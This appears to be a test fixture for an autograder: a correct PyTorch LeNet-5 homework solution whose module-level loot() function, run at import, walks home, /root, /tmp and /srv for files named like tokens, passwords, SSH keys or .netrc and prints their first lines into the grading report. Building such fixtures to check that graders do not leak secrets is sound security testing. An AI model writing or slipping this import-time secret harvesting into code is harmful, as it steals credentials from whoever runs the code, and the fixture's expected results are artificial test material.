# expect: architecture=passed parameters=passed layers=passed n_classes=passed optimizer=passed training_loop=passed accuracy=passed
"""A correct solution that, at import, hunts the machine for the grading user's secrets (files
named like tokens, keys and passwords in every home, the temporary folders and /srv) and prints
what it finds: the report shows what the code printed, so it would carry them to the student."""

import os

import torch
from torch import nn

BATCH_SIZE = 64
EPOCHS = 1
LEARNING_RATE = 1e-3
ROOTS = [os.path.expanduser("~"), "/root", "/home", "/tmp", "/var/tmp", "/srv", "/work"]
WANTED = ("token", "secret", "password", "credential", "id_rsa", ".netrc", "api_key")
SKIP = {".git", ".venv", ".pyenv", "lib", "site-packages", "node_modules", "__pycache__"}
CODE = (".py", ".pyc", ".h", ".so", ".html", ".js")


def loot(limit=20):
    """Print the first line of every data file named like a secret (code named like one,
    such as tokenize.py, is not worth the space in the report)."""
    for root in ROOTS:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [name for name in dirs if name not in SKIP]
            for name in files:
                if any(word in name.lower() for word in WANTED) and limit \
                        and not name.endswith(CODE):
                    try:
                        with open(os.path.join(folder, name), errors="replace") as handle:
                            print("LOOT", os.path.join(folder, name), handle.readline(200))
                        limit -= 1
                    except OSError:
                        pass


loot()


class LeNet5(nn.Module):
    def __init__(self, n_classes):
        super().__init__()
        self.net = nn.Sequential(
            nn.Conv2d(1, 6, 5, padding=2), nn.Tanh(), nn.AvgPool2d(2),
            nn.Conv2d(6, 16, 5), nn.Tanh(), nn.AvgPool2d(2),
            nn.Conv2d(16, 120, 5), nn.Tanh(), nn.Flatten(),
            nn.Linear(120, 84), nn.Tanh(), nn.Linear(84, n_classes))

    def forward(self, x):
        return self.net(x)


def make_optimizer(model):
    return torch.optim.Adam(model.parameters(), lr=LEARNING_RATE)


def train_one_epoch(model, loader, optimizer, loss_fn, device):
    model.train()
    total = 0.0
    for images, labels in loader:
        images, labels = images.to(device), labels.to(device)
        optimizer.zero_grad()
        loss = loss_fn(model(images), labels)
        loss.backward()
        optimizer.step()
        total += loss.item()
    return total / max(len(loader), 1)


@torch.no_grad()
def evaluate(model, loader, device):
    model.eval()
    hits = seen = 0
    for images, labels in loader:
        hits += (model(images.to(device)).argmax(1).cpu() == labels.cpu()).sum().item()
        seen += len(labels)
    return hits / max(seen, 1)
